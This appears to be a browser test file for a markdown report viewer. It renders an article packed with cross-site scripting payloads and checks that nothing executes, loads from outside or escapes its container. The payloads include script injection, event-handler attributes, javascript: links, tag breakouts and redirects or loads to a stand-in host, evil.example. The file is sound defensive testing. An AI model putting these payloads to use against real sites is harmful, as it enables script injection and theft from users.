import { expect, test } from 'vitest'
import { describeInChromium, openReport } from './open-report.ts'

/** Every way known to us for the words of an article to become more than words. What runs leaves `ran` behind. */
const hostile = `# Title <script>ran = 'heading'</script> "onmouseover="ran=1

<script>ran = 'script'</script>

<img src=x onerror="ran='image'"> <b onmouseover="ran='over'">bold</b> <svg/onload=ran=1> <SCRIPT SRC=//evil.example/x.js></SCRIPT>

[one](javascript:ran='link') <a href="JaVaScRiPt:ran=1">two</a> <a href="java&#115;cript:ran=1">three</a> [four](data:text/html,x) <a href=" javascript:ran=1">five</a>

Text </script><script>ran='island'</script> and \`</script>\` and <!--

<style>body { display: none }</style>
<div style="position: fixed; inset: 0; background: url(https://evil.example/css)" class="sign error" id="main" data-m="q0 f0" data-x0-m="q0">box</div>

Dr Evil said, “words that \u202Ereverse the \u2066text <iframe src=https://evil.example></iframe> of all” [1].

<textarea>swallow</textarea> <plaintext> after <title>t</title> <form action=https://evil.example><button>go</button></form> <base href=https://evil.example> <meta http-equiv=refresh content="0;url=https://evil.example"> <link rel=stylesheet href=https://evil.example/x.css>

![alt "onerror=ran=1](https://evil.example/x.png "title onload=ran=1")

| cell <script>ran=1</script> | other |
| --- | --- |
| </table></td></article></main> | “cells hold claims of five words”, says Dr Evil |

<details><summary>More</summary>

Words in a closed box.

</details>

{{< shortcode onclick="ran=1" >}} in text, {% raw %}<script>ran=1</script>{% endraw %}

## References

1. Evil D. <script>ran=1</script> "onmouseover="ran=1". J Evil 2020. https://evil.example/"onmouseover="ran=1 javascript:ran=1 doi:10.1000/<script>ran=1</script>
`

const path = `drafts/"><script>ran='path'</script>&amp;.md`
const title = `</title></script><script>ran='title'</script>`

describeInChromium('a hostile article', () => {
  const open = (hash = '') => openReport({ [path]: hostile, 'z.md': '# Z\n' }, { hash, title })

  test('runs nothing, loads nothing, and is shown as text in the overview', async () => {
    const { page, complaints } = await open()
    expect(await page.locator('h1').textContent()).toBe(title)
    expect(await page.locator('.articles .path').first().textContent()).toBe(path)
    expect(await page.evaluate('typeof ran')).toBe('undefined')
    expect(complaints).toEqual([])
  })

  test('runs nothing, loads nothing, and leaves nothing out in the view of the article', async () => {
    const { page, complaints } = await open(`#/${encodeURIComponent(path)}`)
    for (const element of await page.locator('.text b, .text span, .text a').all())
      await element.dispatchEvent('mouseover')
    expect(await page.evaluate('typeof ran')).toBe('undefined')
    expect(complaints).toEqual([])
    const words = await page.locator('.text').evaluate(text => {
      const own = text.cloneNode(true) as Element
      for (const added of own.querySelectorAll('.heard, .sign, .notes')) added.remove()
      return own.textContent
    })
    for (const shown of [
      `<script>ran = 'script'</script>`,
      `<img src=x onerror="ran='image'">`,
      `<b onmouseover="ran='over'">`,
      `<svg/onload=ran=1>`,
      `(javascript:ran='link')`,
      `<a href="JaVaScRiPt:ran=1">`,
      `<a href="java&#115;cript:ran=1">`,
      `(data:text/html,x)`,
      `</script><script>ran='island'</script>`,
      `<style>body { display: none }</style>`,
      `\\u202ereverse the \\u2066text <iframe src=https://evil.example>`,
      `<textarea>swallow</textarea> <plaintext> after <title>t</title>`,
      `<meta http-equiv=refresh`,
      `[image: alt "onerror=ran=1 – title onload=ran=1]`,
      `</table></td></article></main>`,
      `Words in a closed box.`,
      `{{< shortcode onclick="ran=1" >}}`,
      `{% raw %}`,
      `Evil D. <script>ran=1</script> "`,
    ])
      expect(words).toContain(shown)
  })

  test('keeps to its box', async () => {
    const { page } = await open(`#/${encodeURIComponent(path)}`)
    const text = page.locator('.text')
    expect(
      await text
        .locator('script, style, iframe, img, form, button, base, meta, link, textarea, [style]:not(.notes)')
        .count(),
    ).toBe(0)
    expect(await page.locator('#main').count()).toBe(1)
    expect(await text.getByRole('row').count()).toBe(2)
    expect(await page.locator('[onmouseover], [onerror], [onload], [onclick]').count()).toBe(0)
    expect(await page.getByRole('heading', { name: 'References, and what rests on them' }).isVisible()).toBe(
      true,
    )
    expect(await text.getByText('box', { exact: true }).getAttribute('data-m')).toBe(null)
    const links = await page
      .locator('a')
      .evaluateAll(all => all.map(link => (link as HTMLAnchorElement).protocol))
    // `:` is an address that no browser can read.
    expect([...new Set(links)].toSorted()).toEqual([':', 'file:', 'https:'])
  })

  test('is held by the policy of the page as well', async () => {
    const { page } = await open()
    const setUp = (what: string) => page.evaluate(`{ const node = document.body; ${what} }`)
    await expect(setUp(`node.setAttribute('onclick', 'ran = 1')`)).rejects.toThrow('TrustedScript')
    await expect(setUp(`node.innerHTML = '<img src=x onerror=ran=1>'`)).rejects.toThrow('TrustedHTML')
    await expect(page.addScriptTag({ content: 'ran = 1' })).rejects.toThrow()
    await expect(page.evaluate(() => fetch('https://evil.example/'))).rejects.toThrow()
    expect(await page.evaluate('typeof ran')).toBe('undefined')
  })
})
